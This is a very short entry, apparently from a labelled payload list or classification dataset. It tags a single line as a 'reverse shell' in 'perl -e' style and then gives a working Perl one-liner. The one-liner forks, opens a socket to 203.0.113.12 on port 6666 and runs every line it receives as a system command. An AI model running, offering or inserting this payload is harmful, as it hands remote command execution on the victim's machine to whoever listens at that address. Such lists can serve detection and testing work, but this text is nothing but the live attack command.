# class: reverse shell; style: perl -e
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.12:6666");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
